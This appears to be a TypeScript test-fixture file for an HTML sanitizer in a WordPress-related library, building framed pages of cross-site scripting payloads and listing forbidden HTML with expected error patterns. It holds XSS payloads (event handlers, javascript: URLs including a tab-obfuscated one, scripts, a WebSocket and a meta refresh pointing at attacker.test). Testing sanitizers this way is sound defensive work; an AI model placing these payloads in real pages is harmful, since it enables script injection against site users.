import type {Post} from '../posts.js';
import {LIVE} from './strings.js';
import {attribute} from './written.js';

/** Of the payloads that can run a script, the control takes one in so many. */
const EVERY = 4;

/** How many frames a page has. */
const FRAMES = 100;

/** Payloads of which most run something where they get in. */
export const CONTROL: readonly string[] = LIVE.filter((_, index) => index % EVERY === 0);

/** A payload on a page without care: as HTML, in attributes, and as the address of a link. */
const carelessly = (payload: string): string =>
  [
    `<body>${payload}`,
    ...['"', "'", ''].map((quote) => `<p tabindex=0 title=${quote}${payload}${quote}>a</p>`),
    `<a href="${attribute(payload)}">a</a>`,
  ].join('\n');

/** A frame of its own for each payload, so that none hides another. Their names are their indexes. */
export const FRAMED: readonly Post[] = Array.from(
  {length: Math.ceil(CONTROL.length / FRAMES)},
  (_, page) => {
    const start = page * FRAMES;
    const frames = CONTROL.slice(start, start + FRAMES).map(
      (payload, index) =>
        `<iframe name="${start + index}" srcdoc="${attribute(carelessly(payload))}"></iframe>`,
    );
    const content = `<!-- wp:html -->\n${frames.join('\n')}\n<!-- /wp:html -->`;
    return {role: 'administrator', title: 'Frames', content};
  },
);

/** HTML that may not be in a shadow root of the library, and the fault that it is. */
export const IN_SHADOW_ROOT: readonly (readonly [html: string, fault: RegExp])[] = [
  ['<img src=x>', /hearth-links holds IMG/],
  ['<p style="color:red">a</p>', /hearth-links holds style of <p/],
  ['<p onclick="a()">a</p>', /onclick of <p/],
  ['<a part="link" href="java\tscript:pwned()">a</a>', /href of <a/],
  ['<svg><a href="/">a</a></svg>', /hearth-links holds svg/],
  ['<!--a-->', /hearth-links holds #comment/],
  ['<img src="//attacker.test/a.png">', /request of image: http:\/\/attacker\.test\/a\.png/],
];

/** HTML that may not be in the content of a post, and the fault that it is. */
export const IN_CONTENT: readonly (readonly [html: string, fault: RegExp])[] = [
  ['<img src=x onerror=pwned()>', /pwned\(\) was called/],
  ['<svg onload=alert(1)></svg>', /alert\(\) was called/],
  ['<script>prompt()</script>', /prompt\(\) was called.*content holds <script>/],
  ['<script>throw new Error("ours")</script>', /error: ours/],
  ['<script src=//attacker.test/a.js></script>', /request of script/],
  ['<link rel=stylesheet href=//attacker.test/a.css>', /request of stylesheet/],
  ['<iframe src=//attacker.test/></iframe>', /request of document.*content holds <iframe/],
  ['<meta http-equiv=refresh content="0;url=//attacker.test/">', /request of document/],
  ['<hearth-story src=//attacker.test/a.json></hearth-story>', /request of fetch/],
  ['<script>new WebSocket("ws://attacker.test")</script>', /websocket/],
  ['<script>window.history.pushState({}, "", "?elsewhere")</script>', /now at .*elsewhere/],
  ['<p tabindex=0 onfocus=confirm()>a</p>', /confirm\(\) was called/],
  ['<button onpointerenter=print()>a</button>', /print\(\) was called/],
  ['<div onscroll=a()>a</div>', /onscroll of <div/],
  ['<form action=javascript:pwned()><button>a</button></form>', /action of <form/],
  ['<a href=javascript:pwned()>a</a>', /pwned\(\) was called/],
];
